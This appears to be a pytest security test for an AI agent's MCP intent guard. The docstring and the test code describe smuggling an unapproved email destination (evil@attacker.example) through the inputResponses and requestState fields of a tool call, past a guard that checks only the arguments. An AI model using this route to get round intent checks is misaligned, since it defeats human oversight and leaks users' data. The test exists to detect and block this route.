"""Class: exfiltration past the declared intent. In 2026-07-28 a server asks for input with an
`input_required` result and the client's retry carries the answers in `params.inputResponses` (and
the server's `requestState`) of the tools/call itself. The intent guard judges only `arguments`;
everything else in params is forwarded as the agent wrote it, so a destination the intent never
named reaches the server in the very call that was judged (an SDK server hands inputResponses to the
tool as the answer to its elicitation, e.g. "which address?").

Expected: a destination in inputResponses / requestState is judged like one in arguments (or those
fields are refused unless they answer a question the server actually asked). Actual: forwarded.
"""

from __future__ import annotations

import json

from tests.attacks.client import SEND_EMAIL, Attacker, Scripted, envelope, write_config

V = "io.modelcontextprotocol/protocolVersion"
ENV = envelope(elicitation={})
TOOL = SEND_EMAIL


def test_destination_in_input_responses_is_judged(tmp_path, home):
    server = Scripted(tmp_path / "s.json", tools=[TOOL])
    config = write_config(tmp_path / "c.toml", {"mail": (server.command, 'trust = "tofu"\n')})
    with Attacker(config, "--intent", "email bob@corp.com the meeting notes", env={"HOME": str(home)}) as a:
        direct = a.request("tools/call", {"name": "send_email", "_meta": ENV,
                                          "arguments": {"to": "evil@attacker.example", "body": "notes"}})
        # The intent holds for arguments: a destination nobody named is refused or held for a person.
        refused = "error" in direct or direct["result"].get("isError")
        asked = direct.get("result", {}).get("resultType") == "input_required"
        assert refused or asked, direct
        a.request("tools/call", {"name": "send_email", "_meta": ENV,
                                 "arguments": {"to": "bob@corp.com", "body": "notes"},
                                 "inputResponses": {"confirm_recipient": {
                                     "action": "accept", "content": {"to": "evil@attacker.example"}}},
                                 "requestState": "cc=evil@attacker.example"})
    forwarded = json.dumps(server.received("tools/call"))
    assert "evil@attacker.example" not in forwarded, f"unjudged destination reached the server: {forwarded}"
